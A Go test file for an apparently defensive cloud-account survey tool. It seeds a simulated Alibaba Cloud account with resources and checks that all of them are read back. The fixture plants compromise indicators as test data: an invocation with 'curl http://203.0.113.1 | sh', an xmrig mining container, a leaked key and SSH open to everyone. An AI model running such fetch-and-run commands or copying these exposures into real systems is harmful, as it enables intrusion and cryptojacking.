package survey_test

import (
	"encoding/json"
	"fmt"
	"slices"
	"testing"
	"time"

	"github.com/akguard/akguard/verifier/account"
	"github.com/akguard/akguard/verifier/alibabatest"
)

// made is when the things of the scene were made.
var made = time.Date(2026, 11, 3, 4, 5, 0, 0, time.UTC)

// furnish gives the stage's account one of everything, and returns it as it should be read.
func (s *stage) furnish() account.Snapshot {
	a := s.account
	var want account.Snapshot
	day := time.Now().UTC()
	for _, region := range []string{"cn-hangzhou", "us-west-1"} {
		for n := range 3 {
			id := fmt.Sprintf("%s-%d", region, n)
			want.Instances = append(want.Instances, account.Instance{ID: "i-" + id, Region: region, Name: "web", Type: "ecs.gn7i-c8g1.2xlarge", CPU: 8, GPU: 1,
				Status: "Running", Created: made, KeyPair: "ops", Role: "worker", Public: []string{"198.51.100.4"}, Groups: []string{"sg-" + id}, Spot: n == 1})
			want.Disks = append(want.Disks, account.Disk{ID: "d-" + id, Region: region, Name: "disk", Created: made, Auto: n == 0, Policy: "sp-" + id})
		}
		want.SecurityGroups = append(want.SecurityGroups, account.SecurityGroup{ID: "sg-" + region, Region: region, Name: "web", VPC: "vpc-1", Created: made, Managed: true,
			Rules: []account.Rule{
				{ID: "sgr-1", Direction: "ingress", Policy: "Accept", Protocol: "TCP", Ports: "22/22", Priority: "1", Source: "0.0.0.0/0", NIC: "intranet", Created: made, Description: "ssh"},
				{ID: "sgr-2", Direction: "ingress", Policy: "Drop", Protocol: "ALL", Ports: "-1/-1", Priority: "100", Source6: "::/0", PrefixList: "pl-1", SourceGroup: "sg-2", PortList: "prl-1"},
			}})
		want.PrefixLists = append(want.PrefixLists, account.PrefixList{ID: "pl-" + region, Region: region, Name: "office", Created: made, Entries: []string{"0.0.0.0/1", "128.0.0.0/1"}})
		want.Fleets = append(want.Fleets, account.Fleet{Kind: "scaling", ID: "asg-" + region, Region: region, Name: "grow", Created: made, Wanted: 4},
			account.Fleet{Kind: "provisioning", ID: "apg-" + region, Region: region, Name: "spot", Created: made, Wanted: 9})
		want.Containers = append(want.Containers, account.Container{ID: "eci-" + region, Region: region, Name: "job", Created: made, Images: []string{"xmrig:latest"}, Status: "Running"})
		want.Invocations = append(want.Invocations, account.Invocation{ID: "t-" + region, Region: region, Name: "setup", Created: made, Content: "curl http://203.0.113.1 | sh", Instances: []string{"i-1", "i-2"}})
		want.KeyPairs = append(want.KeyPairs, account.KeyPair{Name: "ops", Region: region, Created: made})
		want.Images = append(want.Images, account.Image{ID: "m-" + region, Region: region, Name: "golden", Created: made, Accounts: []string{"1234567890123456"}, Public: true})
		want.SnapshotPolicies = append(want.SnapshotPolicies, account.SnapshotPolicy{ID: "sp-" + region, Region: region, Name: "daily", Created: made, Disks: 2})
		want.Databases = append(want.Databases, account.Database{ID: "rm-" + region, Region: region, Name: "orders", Engine: "MySQL", Created: made,
			Allowed: []string{"127.0.0.1", "0.0.0.0/0"}, Accounts: []account.DBAccount{{Name: "root", Type: "Super"}, {Name: "app", Type: "Normal"}}})
	}
	want.Buckets = []account.Bucket{
		{Name: "photos", Region: "us-west-1", Created: made, ACL: "public-read", Policy: `{"Version":"1","Statement":[]}`, Logging: true},
		{Name: "logs", Region: "cn-hangzhou", Created: made, ACL: "private"},
	}
	want.Balance = &account.Balance{Available: "-12.50", Currency: "CNY"}
	want.Bills = []account.Bill{{Cycle: day.Format("2006-01"), Product: "ecs", Name: "Elastic Compute Service", Amount: 4321.5, Currency: "CNY"}}
	want.Today = []account.Cost{{Day: day.Format(time.DateOnly), Product: "ecs", Instance: "i-1", Region: "cn-hangzhou", Amount: 99.25, Currency: "CNY"}}
	want.Leaks = []account.Leak{{Key: account.Ref(s.leaked.Credential().ID), At: day.Truncate(time.Second), URL: "https://github.com/x/y", Dealt: "manual"}}
	want.Alarms = []account.Alarm{{ID: "7", Name: "Mining", At: day.Truncate(time.Second), Instance: "i-1", Level: "serious", Status: "1"}}
	want.Resources = []account.Resource{{Type: "ACS::ECS::Instance", ID: "i-9", Name: "new", Region: "us-west-1", Created: day.Truncate(time.Second)}}
	want.Trails.Trails = []account.Trail{{Name: "all", Region: "cn-hangzhou", Logging: true, Created: made, Updated: made, Bucket: "logs", EventRW: "All", Regions: "All"}}
	want.Providers = []account.Provider{{Kind: "saml", Name: "okta", Created: made, Updated: made}}
	want.Applications = []account.Application{{ID: "4700", Name: "app", Created: made, Updated: made, Redirects: []string{"https://x.example"}, Secrets: []time.Time{made}}}
	want.Restrictions = []account.Restriction{{Document: `{"Version":1,"Status":"Inactive","Statements":[]}`}}

	each(a.AddInstance, want.Instances)
	each(a.AddDisk, want.Disks)
	each(a.AddSecurityGroup, want.SecurityGroups)
	each(a.AddPrefixList, want.PrefixLists)
	each(a.AddFleet, want.Fleets)
	each(a.AddContainer, want.Containers)
	each(a.AddInvocation, want.Invocations)
	each(a.AddKeyPair, want.KeyPairs)
	each(a.AddImage, want.Images)
	each(a.AddSnapshotPolicy, want.SnapshotPolicies)
	each(a.AddDatabase, want.Databases)
	each(a.AddBucket, want.Buckets)
	a.SetMoney(want.Money)
	a.AddLeak(alibabatest.Leak{KeyID: s.leaked.Credential().ID.Reveal(), URL: want.Leaks[0].URL, Dealt: "manual", At: want.Leaks[0].At})
	each(a.AddAlarm, want.Alarms)
	each(a.AddResource, want.Resources)
	each(a.AddTrail, want.Trails.Trails)
	each(a.AddSAMLProvider, want.Providers)
	each(a.AddApplication, want.Applications)
	a.SetAccountNetworkPolicy(want.Restrictions[0].Document)
	return want
}

func each[T any](add func(T), list []T) {
	for _, item := range list {
		add(item)
	}
}

// TestReadsWhatThereIs gives an account one of everything, and wants all of it back, field by field.
func TestReadsWhatThereIs(t *testing.T) {
	s := newStage(t)
	want := s.furnish()
	got := s.read()
	same(t, "instances", got.Instances, want.Instances)
	same(t, "disks", got.Disks, want.Disks)
	same(t, "security groups", got.SecurityGroups, want.SecurityGroups)
	same(t, "prefix lists", got.PrefixLists, want.PrefixLists)
	same(t, "fleets", got.Fleets, want.Fleets)
	same(t, "containers", got.Containers, want.Containers)
	same(t, "invocations", got.Invocations, want.Invocations)
	same(t, "key pairs", got.KeyPairs, want.KeyPairs)
	same(t, "images", got.Images, want.Images)
	same(t, "snapshot policies", got.SnapshotPolicies, want.SnapshotPolicies)
	same(t, "databases", got.Databases, want.Databases)
	same(t, "buckets", got.Buckets, want.Buckets)
	same(t, "balance", []*account.Balance{got.Balance}, []*account.Balance{want.Balance})
	same(t, "bills", got.Bills, want.Bills)
	same(t, "costs", got.Today, want.Today)
	same(t, "leaks", got.Leaks, want.Leaks)
	same(t, "alarms", got.Alarms, want.Alarms)
	same(t, "resources", got.Resources, want.Resources)
	same(t, "trails", got.Trails.Trails, want.Trails.Trails)
	same(t, "providers", got.Providers, want.Providers)
	same(t, "applications", got.Applications, want.Applications)
	same(t, "restrictions", got.Restrictions, want.Restrictions)
	if u := unanswered(got.Ledger); len(u) > 0 {
		t.Errorf("not answered: %q", u)
	}
}

// same compares two lists in any order.
func same[T any](t *testing.T, what string, got, want []T) {
	t.Helper()
	encode := func(list []T) []string {
		var out []string
		for _, item := range list {
			text, err := json.Marshal(item)
			if err != nil {
				t.Fatal(err)
			}
			out = append(out, string(text))
		}
		slices.Sort(out)
		return out
	}
	if g, w := encode(got), encode(want); !slices.Equal(g, w) {
		t.Errorf("%s:\n got %s\nwant %s", what, g, w)
	}
}

// TestReadsAllPages gives an account more of each than a page holds.
func TestReadsAllPages(t *testing.T) {
	const many = 230
	s := newStage(t)
	s.account.Configure(alibabatest.Settings{Regions: []string{"cn-hangzhou"}})
	for i := range many {
		id := fmt.Sprintf("%03d", i)
		s.account.AddInstance(account.Instance{ID: "i-" + id, Region: "cn-hangzhou"})
		s.account.AddKeyPair(account.KeyPair{Name: "k-" + id, Region: "cn-hangzhou"})
		s.account.AddContainer(account.Container{ID: "eci-" + id, Region: "cn-hangzhou"})
		s.account.AddFleet(account.Fleet{Kind: "scaling", ID: "asg-" + id, Region: "cn-hangzhou"})
		s.account.AddDisk(account.Disk{ID: "d-" + id, Region: "cn-hangzhou"})
		s.account.AddDatabase(account.Database{ID: "rm-" + id, Region: "cn-hangzhou"})
		s.account.AddUser(alibabatest.User{Name: "u-" + id})
		s.account.AddRole(alibabatest.Role{Name: "r-" + id})
		s.account.AddAlarm(account.Alarm{ID: id, Name: "x", At: time.Now()})
		s.account.PlantEvents(alibabatest.Event{Time: time.Now().Add(-time.Minute), Name: "CreateDisk", Service: "Ecs", Region: "cn-hangzhou"})
	}
	got := s.read()
	created := slices.DeleteFunc(slices.Clone(got.Events), func(e account.Event) bool { return e.Name != "CreateDisk" })
	for what, n := range map[string]int{"instances": len(got.Instances), "key pairs": len(got.KeyPairs), "containers": len(got.Containers), "fleets": len(got.Fleets),
		"disks": len(got.Disks), "databases": len(got.Databases), "users": len(got.Users) - 2, "roles": len(got.Roles), "alarms": len(got.Alarms), "events": len(created)} {
		if n != many {
			t.Errorf("%d %s, want %d", n, what, many)
		}
	}
	if u := unanswered(got.Ledger); len(u) > 0 {
		t.Errorf("not answered: %q", u)
	}
}
